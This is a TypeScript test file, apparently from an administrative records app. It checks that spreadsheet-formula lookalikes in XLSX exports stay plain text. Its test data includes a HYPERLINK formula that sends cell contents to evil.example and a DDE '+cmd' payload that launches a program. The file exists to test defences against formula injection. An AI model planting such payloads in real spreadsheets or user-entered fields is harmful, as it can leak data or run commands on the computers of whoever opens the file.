// Texts that look like spreadsheet formulas (=HYPERLINK(…), +cmd, @SUM, -1+1) in the exports: every
// export is an XLSX written by exceljs (the roster, officials' year records, the review register; there
// is no CSV export), where a text is a shared string and never a formula — Excel, WPS and LibreOffice
// show it as written and evaluate nothing. Read back from the file: no formula element, every such
// cell the text itself.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { openAdminCore, type AdminCore } from '../helpers/admin-core';
import { docxPart, docxParts } from '../helpers/docx'; // any OOXML package's parts (unzip)

let a: AdminCore;
const LOOKALIKES = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)', '-2+3', '=1+1'];

beforeAll(async () => {
  a = openAdminCore('yishi-export-formulas-');
  await a.must('committee.update', { region: '示例区', term: 2 });
  for (const [i, t] of LOOKALIKES.entries()) {
    await a.must('members.create', { sort: i + 1, name: t, gender: '', role: '委员', seat: i + 1, inOfficeFrom: null, inOfficeTo: null, note: t });
    await a.must('officials.create', { sort: i + 1, name: t, unit: t, post: t, category: t });
  }
});
afterAll(async () => {
  await a.close();
});

async function readBack(base64: string): Promise<{ xml: string; texts: string[] }> {
  const bytes = Buffer.from(base64, 'base64');
  const sheets = docxParts(bytes).filter((f) => /^xl\/worksheets\/sheet\d+\.xml$/.test(f));
  expect(sheets.length).toBeGreaterThan(0);
  const xml = sheets.map((f) => docxPart(bytes, f)).join('');
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as Parameters<typeof wb.xlsx.load>[0]);
  const texts: string[] = [];
  wb.worksheets[0]!.eachRow((row) => row.eachCell((c) => texts.push(typeof c.value === 'string' ? c.value : JSON.stringify(c.value))));
  return { xml, texts };
}

describe('formula lookalikes in exports', () => {
  it('the roster and the officials list keep them as texts, never formulas', async () => {
    for (const kind of ['members', 'officials']) {
      const file = await a.must<{ base64: string }>('export.xlsx', { kind });
      const { xml, texts } = await readBack(file.base64);
      expect(xml, kind).not.toMatch(/<f[ >]/);
      for (const t of LOOKALIKES) expect(texts.filter((x) => x === t).length, `${kind} ${t}`).toBeGreaterThanOrEqual(2);
    }
  });

  it('the officials’ year records keep them as texts, never formulas', async () => {
    const file = await a.must<{ base64: string }>('officialYears.exportXlsx', { year: 2026 });
    const { xml, texts } = await readBack(file.base64);
    expect(xml).not.toMatch(/<f[ >]/);
    for (const t of LOOKALIKES) expect(texts, t).toContain(t);
  });
});
